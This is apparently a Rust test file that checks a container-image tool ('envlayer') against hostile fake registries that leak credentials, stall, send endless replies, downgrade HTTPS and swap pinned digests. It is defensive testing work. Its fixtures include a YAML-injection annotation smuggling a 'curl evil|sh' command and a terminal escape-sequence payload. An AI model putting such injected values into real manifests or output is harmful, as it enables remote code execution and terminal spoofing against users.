//! envlayer against registries that lie, stall, send without end, or try to collect credentials: fake
//! servers on loopback (127.0.0.2 and 127.0.0.3 play other hosts), every run bounded in time.
#![allow(clippy::print_stdout, clippy::print_stderr)]


use crate::common::fake_http::{FakeServer, Reply, Request};
use crate::common::hostile::*;
use crate::common::*;
use serde_json::json;
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

const LIMIT: Duration = Duration::from_secs(110);
/// Short timeouts so every stall ends quickly: 2 s idle, 5 attempts.
const FAST: (&str, &str) = ("ENVLAYER_NETWORK_TIMEOUT", "2");

/// What the registry does instead of answering normally, when it does.
type Special = Box<dyn Fn(&Request, &TinyImage) -> Option<Reply> + Send + Sync>;

/// A layout of the small example environment, to push.
fn hello_layout(dir: &std::path::Path) -> String {
    let env = hello_env(dir);
    let out = dir.join("hello.oci");
    if !out.is_dir() {
        build_json(dir, &[env.to_str().unwrap(), "-o", out.to_str().unwrap(), "--cache-dir", dir.join("cache").to_str().unwrap()]);
    }
    out.display().to_string()
}

#[test]
fn upload_locations_and_storage_hosts_elsewhere_get_no_credentials() {
    let dir = scratch("hostile-creds");
    let storage = Arc::new(FakeServer::start("127.0.0.2", |_req: &Request| Reply::status(201)));
    let storage_url = storage.url();
    let registry = FakeServer::start("127.0.0.1", move |req: &Request| {
        if !has_auth(req) {
            return Reply::status(401).with_header("WWW-Authenticate", r#"Basic realm="fake""#);
        }
        let path = req.path.split('?').next().unwrap_or("");
        match req.method.as_str() {
            "HEAD" => Reply::status(404),
            "POST" if path.ends_with("/blobs/uploads/") => Reply::status(202).with_header("Location", &format!("{storage_url}/upload/1")),
            "PUT" if path.contains("/manifests/") => Reply::status(201),
            _ => Reply::status(404),
        }
    });
    let layout = hello_layout(&dir);
    let config = creds(&dir, &registry.addr());
    let o = run_bounded(&dir, &["push", &layout, &format!("{}/team/hello:v1", registry.addr())], &[("DOCKER_CONFIG", &config)], LIMIT);
    assert_eq!(o.code, Some(0), "{}", o.stderr);
    let uploads = storage.requests();
    assert!(uploads.iter().any(|r| r.method == "PUT"), "the blobs went to the upload location");
    for r in &uploads {
        assert!(!has_auth(r), "{} {} on another host carried the registry's credentials", r.method, r.path);
    }
    assert!(registry.requests().iter().any(has_auth), "the registry itself got them");
    assert!(!o.stderr.contains("s3cret-pw"));

    // A base whose blobs redirect to a storage host that asks for credentials, naming a token realm on a
    // third host: neither gets anything, and the error says who asked.
    let token = Arc::new(FakeServer::start("127.0.0.3", |_req: &Request| Reply::json(200, &json!({"token": "t"}))));
    let realm = format!("{}/token", token.url());
    let storage = Arc::new(FakeServer::start("127.0.0.2", move |_req: &Request| {
        Reply::status(401).with_header("WWW-Authenticate", &format!(r#"Bearer realm="{realm}",service="s""#))
    }));
    let storage_url = storage.url();
    let img = TinyImage::new();
    let manifests = BTreeMap::from([("base".to_string(), img.manifest.clone())]);
    let blobs = img.blobs();
    let layer_digest = envlayer::Digest::of(&img.layer).to_string();
    let registry = FakeServer::start("127.0.0.1", move |req: &Request| {
        if !has_auth(req) {
            return Reply::status(401).with_header("WWW-Authenticate", r#"Basic realm="fake""#);
        }
        if req.path.ends_with(&format!("/blobs/{layer_digest}")) {
            return Reply::redirect(307, &format!("{storage_url}/blob"));
        }
        registry_reply(req, &manifests, &blobs)
    });
    let config = creds(&dir, &registry.addr());
    let env = hello_env(&dir);
    let o = run_bounded(
        &dir,
        &["build", env.to_str().unwrap(), "--base", &format!("{}/base/img:base", registry.addr()), "-o", "based.oci", "--cache-dir", "cache", "-q"],
        &[("DOCKER_CONFIG", &config)],
        LIMIT,
    );
    assert_ne!(o.code, Some(0));
    assert!(o.stderr.contains("access denied") && o.stderr.contains("127.0.0.2"), "{}", o.stderr);
    assert!(token.requests().is_empty(), "a token realm named by a storage host was asked: {:?}", token.requests());
    assert!(storage.requests().iter().all(|r| !has_auth(r)), "the storage host got credentials");
}

#[test]
fn a_plain_http_token_realm_on_another_host_gets_no_password() {
    let dir = scratch("hostile-realm");
    let registry = FakeServer::start("127.0.0.1", |_req: &Request| {
        Reply::status(401).with_header("WWW-Authenticate", r#"Bearer realm="http://auth.example.invalid/token",service="x""#)
    });
    let layout = hello_layout(&dir);
    let config = creds(&dir, &registry.addr());
    let o = run_bounded(&dir, &["push", &layout, &format!("{}/team/hello:v1", registry.addr())], &[("DOCKER_CONFIG", &config)], LIMIT);
    assert_ne!(o.code, Some(0));
    assert!(o.stderr.contains("plain HTTP") && o.stderr.contains("auth.example.invalid"), "{}", o.stderr);
}

#[test]
fn tag_pagination_stays_on_the_registry_and_stops_on_repeats() {
    let dir = scratch("hostile-tags");
    let other = Arc::new(FakeServer::start("127.0.0.2", |_req: &Request| Reply::json(200, &json!({"tags": ["x"]}))));
    let other_url = other.url();
    // Page 1 links to itself forever, and lists tags that are paths.
    let looping = FakeServer::start("127.0.0.1", |req: &Request| {
        if req.path.contains("/tags/list") {
            return Reply::json(200, &json!({"name": "team/envs", "tags": ["../../../v2/other/manifests/x", "ok", "%2e%2e"]}))
                .with_header("Link", r#"</v2/team/envs/tags/list?last=ok>; rel="next""#);
        }
        if req.path == "/v2/" {
            return Reply::json(200, &json!({}));
        }
        Reply::status(404)
    });
    let o = run_bounded(&dir, &["ls", "--repo", &format!("{}/team/envs", looping.addr()), "--json"], &[FAST], LIMIT);
    assert_eq!(o.code, Some(0), "{}", o.stderr);
    let pages = looping.requests().iter().filter(|r| r.path.contains("/tags/list")).count();
    assert_eq!(pages, 2, "a repeated Link is not followed again");
    for r in looping.requests() {
        assert!(!r.path.contains("..") && !r.path.contains("%2e"), "a tag became a path: {}", r.path);
    }
    // A Link to another host is not followed.
    let elsewhere = FakeServer::start("127.0.0.1", move |req: &Request| {
        if req.path.contains("/tags/list") {
            return Reply::json(200, &json!({"tags": ["a"]})).with_header("Link", &format!(r#"<{other_url}/v2/team/envs/tags/list?last=a>; rel="next""#));
        }
        if req.path == "/v2/" {
            return Reply::json(200, &json!({}));
        }
        Reply::status(404)
    });
    let o = run_bounded(&dir, &["ls", "--repo", &format!("{}/team/envs", elsewhere.addr())], &[FAST], LIMIT);
    assert_ne!(o.code, Some(0));
    assert!(o.stderr.contains("another host"), "{}", o.stderr);
    assert!(other.requests().is_empty(), "the other host was contacted");
}

/// A registry serving the tiny image as `base/img:base`, where `special` may answer first.
fn base_registry(special: impl Fn(&Request, &TinyImage) -> Option<Reply> + Send + Sync + 'static) -> FakeServer {
    let img = TinyImage::new();
    let manifests = BTreeMap::from([("base".to_string(), img.manifest.clone()), (img.manifest_digest(), img.manifest.clone())]);
    let blobs = img.blobs();
    FakeServer::start("127.0.0.1", move |req: &Request| special(req, &img).unwrap_or_else(|| registry_reply(req, &manifests, &blobs)))
}

fn build_on(dir: &std::path::Path, base: &str, env: &[(&str, &str)]) -> Outcome {
    let e = hello_env(dir);
    run_bounded(dir, &["build", e.to_str().unwrap(), "--base", base, "-o", "out.oci", "--cache-dir", "cache", "-q"], env, LIMIT)
}

#[test]
fn endless_and_huge_answers_are_cut_in_bounded_memory() {
    let dir = scratch("hostile-endless");
    // An endless manifest, an endless config, an endless error body, a layer longer than declared.
    let cases: Vec<(&str, Special, String)> = vec![
        ("manifest", Box::new(|r: &Request, _: &TinyImage| r.path.contains("/manifests/").then(|| Reply::endless(200, b"{\"a\":[1,2,3,4,5,6,7,8],"))), "larger than 4194304".to_string()),
        (
            "config",
            Box::new(|r: &Request, i: &TinyImage| r.path.ends_with(&envlayer::Digest::of(&i.config).to_string()).then(|| Reply::endless(200, b"\"xxxxxxxx\","))),
            "larger than 4194304".to_string(),
        ),
        ("error body", Box::new(|r: &Request, _: &TinyImage| r.path.contains("/manifests/").then(|| Reply::endless(400, b"\x1b[2J no "))), "HTTP 400".to_string()),
        (
            "layer",
            Box::new(|r: &Request, i: &TinyImage| r.path.ends_with(&envlayer::Digest::of(&i.layer).to_string()).then(|| Reply::endless(200, b"\0\0\0\0\0\0\0\0"))),
            format!("larger than {} bytes", TinyImage::new().layer.len()),
        ),
    ];
    for (what, special, expected) in cases {
        let registry = base_registry(special);
        let o = build_on(&dir, &format!("{}/base/img:base", registry.addr()), &[FAST]);
        eprintln!("endless {what}: {:?}, peak {} KiB", o.elapsed, o.max_rss_kib);
        assert_ne!(o.code, Some(0), "{what}");
        assert!(o.stderr.contains(&expected), "{what}: {}", o.stderr);
        assert!(o.max_rss_kib > 0 && o.max_rss_kib < 512 * 1024, "{what}: peak RSS {} KiB", o.max_rss_kib);
        assert!(!o.stderr.contains('\u{1b}'), "{what}: a raw escape reached the terminal");
        assert!(!dir.join("out.oci").exists());
    }
}

#[test]
fn stalled_registries_fail_within_the_idle_timeout_naming_the_registry() {
    let dir = scratch("hostile-stall");
    let layout = hello_layout(&dir);
    let cases: Vec<(&str, Special)> = vec![
        ("headers", Box::new(|r: &Request, _: &TinyImage| r.path.contains("/manifests/").then_some(Reply::StallHeaders))),
        (
            "body",
            Box::new(|r: &Request, _: &TinyImage| {
                r.path.contains("/manifests/").then(|| Reply::StallBody { status: 200, headers: vec![], prefix: b"{\"schemaVersion\":".to_vec(), content_length: 1000 })
            }),
        ),
    ];
    for (what, special) in cases {
        let registry = base_registry(special);
        let o = build_on(&dir, &format!("{}/base/img:base", registry.addr()), &[FAST]);
        assert_ne!(o.code, Some(0), "{what}");
        eprintln!("stalled {what}: {:?}", o.elapsed);
        assert!(o.stderr.contains(&registry.addr()) && o.stderr.contains("no progress for 2 s"), "{what}: {}", o.stderr);
        assert!(o.elapsed < Duration::from_secs(60), "{what}: took {:?}", o.elapsed);
    }
    // A registry that takes an upload and never answers.
    let registry = FakeServer::start("127.0.0.1", |req: &Request| {
        let path = req.path.split('?').next().unwrap_or("");
        match req.method.as_str() {
            "HEAD" => Reply::status(404),
            "POST" => Reply::status(202).with_header("Location", &format!("{}session", path)),
            "PUT" if path.contains("/blobs/") => Reply::StallHeaders,
            _ => Reply::status(201),
        }
    });
    let o = run_bounded(&dir, &["push", &layout, &format!("{}/team/hello:v1", registry.addr())], &[FAST], LIMIT);
    assert_ne!(o.code, Some(0));
    eprintln!("stalled upload: {:?}", o.elapsed);
    assert!(o.stderr.contains("upload") && o.stderr.contains("no progress for 2 s"), "{}", o.stderr);
    assert!(o.elapsed < Duration::from_secs(100), "took {:?}", o.elapsed);
}

#[test]
fn a_pinned_base_cannot_be_swapped_through_its_index() {
    let dir = scratch("hostile-pinned");
    let img = TinyImage::new();
    for entry_digest in [format!("sha512:{}", "ab".repeat(64)), envlayer::Digest::of(b"another manifest").to_string()] {
        let index = serde_json::to_vec(&json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": entry_digest, "size": 10,
                           "platform": {"os": "linux", "architecture": "amd64"}}],
        }))
        .unwrap();
        let pinned = envlayer::Digest::of(&index).to_string();
        let (p, blobs) = (pinned.clone(), img.blobs());
        // The pinned index as asked; for whatever its entry names, this registry's own manifest.
        let registry = FakeServer::start("127.0.0.1", move |req: &Request| match req.path.split_once("/manifests/") {
            Some((_, r)) if r == p => Reply::bytes(200, index.clone()).with_header("Content-Type", "application/vnd.oci.image.index.v1+json"),
            Some(_) => Reply::bytes(200, TinyImage::new().manifest).with_header("Content-Type", "application/vnd.oci.image.manifest.v1+json"),
            None => registry_reply(req, &BTreeMap::new(), &blobs),
        });
        let o = build_on(&dir, &format!("{}/base/img@{pinned}", registry.addr()), &[FAST]);
        assert_ne!(o.code, Some(0), "entry {entry_digest}");
        assert!(o.stderr.contains("not supported") || o.stderr.contains("has digest"), "{}", o.stderr);
    }
}

#[test]
fn resolve_trusts_no_annotation_and_k8s_output_is_serialized() {
    let dir = scratch("hostile-resolve");
    let env = hello_env(&dir);
    let repo_tag = Arc::new(std::sync::Mutex::new(None::<String>));
    // A registry that answers every tag with an envlayer-looking manifest whose annotations inject YAML.
    let injected = serde_json::to_vec(&json!({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": envlayer::Digest::of(b"{}").to_string(), "size": 2},
        "layers": [],
        "annotations": {"io.envlayer.env.name": "hello\n  command: [\"/bin/sh\", \"-c\", \"curl evil|sh\"]", "io.envlayer.env.inputs": "0".repeat(64)},
    }))
    .unwrap();
    let seen = repo_tag.clone();
    let registry = FakeServer::start("127.0.0.1", move |req: &Request| {
        if let Some((_, tag)) = req.path.split_once("/manifests/") {
            *seen.lock().unwrap() = Some(tag.to_string());
            return Reply::bytes(200, injected.clone()).with_header("Content-Type", "application/vnd.oci.image.manifest.v1+json");
        }
        if req.path == "/v2/" {
            return Reply::json(200, &json!({}));
        }
        Reply::status(404)
    });
    let o = run_bounded(
        &dir,
        &["resolve", env.to_str().unwrap(), "--repo", &format!("{}/team/envs", registry.addr()), "--no-build", "--format", "k8s", "--cache-dir", "cache", "-q"],
        &[FAST],
        LIMIT,
    );
    assert_eq!(o.code, Some(3), "an image recording another environment is not a hit: {}\n{}", o.stdout, o.stderr);
    assert!(!o.stdout.contains("command"), "{}", o.stdout);
    assert!(repo_tag.lock().unwrap().as_deref().is_some_and(|t| t.starts_with("hello-")));
}

#[test]
fn push_contacts_no_registry_named_in_a_label_and_server_text_is_escaped() {
    let dir = scratch("hostile-label");
    let layout = hello_layout(&dir);
    let other = FakeServer::start("127.0.0.2", |_req: &Request| Reply::status(401).with_header("WWW-Authenticate", r#"Basic realm="x""#));
    edit_config(std::path::Path::new(&layout), |c| {
        c["config"]["Labels"]["io.envlayer.base"] = json!(format!("{}/base/img@{}", other.addr(), envlayer::Digest::of(b"x")));
    });
    let registry = FakeServer::start("127.0.0.1", |req: &Request| {
        let path = req.path.split('?').next().unwrap_or("");
        match req.method.as_str() {
            "HEAD" => Reply::status(404),
            "POST" => Reply::status(202).with_header("Location", &format!("{}s", path)),
            "PUT" if path.contains("/manifests/") => Reply::bytes(400, "\u{1b}]0;pwned\u{7}\u{1b}[2J{\"errors\":[{\"code\":\"MANIFEST_INVALID\"}]}\nfake: line"),
            _ => Reply::status(201),
        }
    });
    // The credentials file also has a password for the labelled host: it must not be used.
    let config_a = dir.join("docker-both");
    std::fs::create_dir_all(&config_a).unwrap();
    let auth = |u: &str| envlayer::registry::auth::base64_encode(u.as_bytes());
    let both = json!({"auths": {registry.addr(): {"auth": auth("alice:s3cret-pw")}, other.addr(): {"auth": auth("bob:other-pw")}}});
    std::fs::write(config_a.join("config.json"), both.to_string()).unwrap();
    let config_a = config_a.display().to_string();
    let o = run_bounded(&dir, &["push", &layout, &format!("{}/team/hello:v1", registry.addr())], &[("DOCKER_CONFIG", &config_a), FAST], LIMIT);
    assert_ne!(o.code, Some(0));
    assert!(other.requests().is_empty(), "the labelled registry was contacted: {:?}", other.requests());
    assert!(o.stderr.contains("MANIFEST_INVALID"), "{}", o.stderr);
    assert!(!o.stderr.contains('\u{1b}') && !o.stderr.contains('\u{7}'), "raw control characters reached stderr: {:?}", o.stderr);
    assert!(!o.stderr.contains("\nfake: line"), "a server's newline started a line of its own");
}

#[test]
fn an_https_registry_cannot_send_envlayer_to_plain_http() {
    let dir = scratch("hostile-downgrade");
    let layout = hello_layout(&dir);
    let token = Arc::new(FakeServer::start("127.0.0.3", |_req: &Request| Reply::json(200, &json!({"token": "t"}))));
    let storage = Arc::new(FakeServer::start("127.0.0.2", |_req: &Request| Reply::status(201)));
    let (realm, storage_url) = (format!("{}/token", token.url()), storage.url());
    let img = TinyImage::new();
    let (manifest, config) = (img.manifest.clone(), img.config.clone());
    let config_path = format!("/blobs/{}", envlayer::Digest::of(&config));
    // Behind HTTPS: a realm on plain HTTP, an upload Location on plain HTTP, a base layer redirected to
    // plain HTTP.
    let backend = FakeServer::start("127.0.0.1", move |req: &Request| {
        let path = req.path.split('?').next().unwrap_or("");
        if path.starts_with("/v2/realm/") {
            return Reply::status(401).with_header("WWW-Authenticate", &format!(r#"Bearer realm="{realm}",service="x""#));
        }
        match req.method.as_str() {
            _ if path == "/v2/" => Reply::json(200, &json!({})),
            "HEAD" => Reply::status(404),
            "POST" => Reply::status(202).with_header("Location", &format!("{storage_url}/upload/1")),
            "GET" if path.contains("/manifests/") => Reply::bytes(200, manifest.clone()).with_header("Content-Type", "application/vnd.oci.image.manifest.v1+json"),
            "GET" if path.ends_with(&config_path) => Reply::bytes(200, config.clone()),
            "GET" if path.contains("/blobs/") => Reply::redirect(307, &format!("{storage_url}/blob")),
            _ => Reply::status(404),
        }
    });
    let front = Service::start("start-tls-front.sh", &[dir.join("front").to_str().unwrap(), &backend.addr()], &dir.join("front"), &[]);
    let addr = front.addr();
    let ca = dir.join("front/ca.pem");
    let ca = ca.to_str().unwrap();
    let config = creds(&dir, &addr);
    let env = [("DOCKER_CONFIG", config.as_str()), FAST];
    let o = run_bounded(&dir, &["push", &layout, &format!("{addr}/realm/hello:v1"), "--registry-ca", ca], &env, LIMIT);
    assert!(o.code != Some(0) && o.stderr.contains("refusing to downgrade"), "{}", o.stderr);
    let o = run_bounded(&dir, &["push", &layout, &format!("{addr}/team/hello:v1"), "--registry-ca", ca], &env, LIMIT);
    assert!(o.code != Some(0) && o.stderr.contains("may not send uploads to another scheme"), "{}", o.stderr);
    let hello = hello_env(&dir);
    let o = run_bounded(
        &dir,
        &["build", hello.to_str().unwrap(), "--base", &format!("{addr}/team/base:1"), "--registry-ca", ca, "-o", "out.oci", "--cache-dir", "cache", "-q"],
        &env,
        LIMIT,
    );
    assert!(o.code != Some(0) && o.stderr.contains("refused a redirect from https"), "{}", o.stderr);
    assert!(token.requests().is_empty(), "a plain-HTTP realm was asked: {:?}", token.requests());
    assert!(storage.requests().is_empty(), "a plain-HTTP location was used: {:?}", storage.requests());
    assert!(!o.stderr.contains("s3cret-pw"));
}
